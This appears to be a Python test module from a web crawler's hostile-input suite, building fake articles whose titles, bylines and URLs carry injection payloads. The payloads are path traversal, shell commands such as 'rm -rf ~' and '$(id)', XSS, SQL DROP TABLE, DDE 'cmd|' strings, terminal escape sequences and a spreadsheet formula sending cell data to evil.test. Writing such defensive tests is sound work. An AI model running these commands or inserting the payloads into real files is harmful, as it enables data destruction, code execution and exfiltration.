"""Outputs: texts that are harmless on the page and not in the file, table or terminal they end up in."""

from __future__ import annotations

from dataclasses import replace

from tests.hostile.answers import Answer, Asked, html
from tests.hostile.hazard import Hazard, Places, one_page, whole_once
from tests.hostile.stories import PAPER, Story, article, body_of, page, story


def _titled(name: str, title: str, note: str = "") -> Hazard:
    """An article under a title."""
    tale = replace(story(name), title=title)
    return one_page(name, html(article(tale)), whole_once(tale), note=note)


def _changed(name: str, old: str, new: str, note: str = "") -> Hazard:
    """An article whose page has something else wherever ``old`` stood."""
    tale = story(name)
    return one_page(name, html(article(tale).replace(old, new)), whole_once(tale), note=note)


def hazards(_: Places) -> tuple[Hazard, ...]:
    """Those of records, reports, tables and file names."""
    odd = "/h/out-odd-name"
    names = (
        "..%2f..%2f..%2fetc%2fpasswd",
        "a%00b.html",
        "con.html",
        "%2e%2e%2fup.html",
        "x" * 1_500 + ".html",
        "a;rm%20-rf%20~.html",
        "%0a%0dSet-Cookie:x.html",
        "~.html",
        "|id.html",
        "$(id).html",
        "-rf.html",
    )
    formula = '=HYPERLINK("http://evil.test?x="&A1,"Click")'
    return (
        one_page(
            "out-u2028",
            html(article(_with("out-u2028", "\u2028", "\u2029", "\x85"))),
            whole_once(story("out-u2028")),
            note="line separators inside the text",
        ),
        one_page(
            "out-surrogate",
            html(_tailed("out-surrogate", "&#xD800; &#xDFFF; &#55357;&#56832; &#xDC00;")),
            whole_once(story("out-surrogate")),
            note="lone surrogates as character references",
        ),
        _titled(
            "out-html-injection",
            "</script><script>alert(1)</script><img src=x onerror=alert(1)>",
            "markup in a title, for reports and the dashboard",
        ),
        _titled("out-csv-injection", formula, "a spreadsheet formula as title"),
        _titled("out-csv-command", "@SUM(1+9)*cmd|' /C calc'!A0"),
        _titled(
            "out-newline-title",
            'A title\nof several\r\nlines\n\n{"url": "http://evil.test/"}',
            "a title of several lines",
        ),
        _titled("out-rtl", "Report \u202egpj.exe\u202c and \u2066more\u2069 \u200f\u200e", "direction overrides"),
        _titled("out-long-title", "A long title " * 24_000, "a 300 KB title"),
        _titled("out-ansi", "Red \x1b[31malert\x1b[0m \x1b]0;owned\x07 \x9b2J", "sequences that change a terminal"),
        _titled("out-control", "Bell \x07 backspace \x08\x08 vertical \x0b delete \x7f"),
        _titled("out-template", "{{ 7*7 }} ${7*7} <%= 7*7 %> #{7*7} {% raw %} %s%s%n {0.__class__}"),
        _titled("out-shell", "$(touch /tmp/x) `id` ; rm -rf ~ | cat > /dev/null"),
        _titled("out-sql", "'); DROP TABLE frontier; --"),
        _titled("out-zalgo", "Z" + "\u0300\u0301\u0302\u0303\u0489" * 2_000 + "algo"),
        _titled("out-markdown", "[click](javascript:alert(1)) ![x](http://evil.test/x.png) <http://evil.test>"),
        _titled("out-empty-title", " \u200b\u00a0\ufeff "),
        _titled("out-json-words", "NaN Infinity -Infinity null undefined"),
        _titled("out-toml", '"""\n[politeness]\nrobots = "ignore"\n'),
        _titled("out-noncharacters", "\ufffe \uffff \U0001ffff \ufdd0"),
        _changed(
            "out-byline", '<p class="byline">', '<p class="byline">=cmd|x, <b>\x1b[5m</b> ', "the same in a byline"
        ),
        Hazard(
            "out-odd-name",
            whole_once(story("out-odd-name"), requests=20),
            {f"{odd}/*": _one_for_all},
            tuple(f"{odd}/{name}" for name in names),
            note="the URL must not become a file name",
        ),
    )


def _one_for_all(_: Asked) -> Answer:
    return html(article(story("out-odd-name")))


def _with(name: str, *marks: str) -> Story:
    """The story with marks behind some of its sentences, in place of the blank."""
    tale = story(name)
    texts = [text.replace(". ", f".{marks[at % len(marks)]} ", 1) for at, text in enumerate(tale.paragraphs)]
    return replace(tale, paragraphs=tuple(texts))


def _tailed(name: str, tail: str) -> str:
    tale = story(name)
    return page(body_of(tale).replace("</p>\n</div>", f" {tail}</p>\n</div>"), title=f"{tale.title} - {PAPER}")
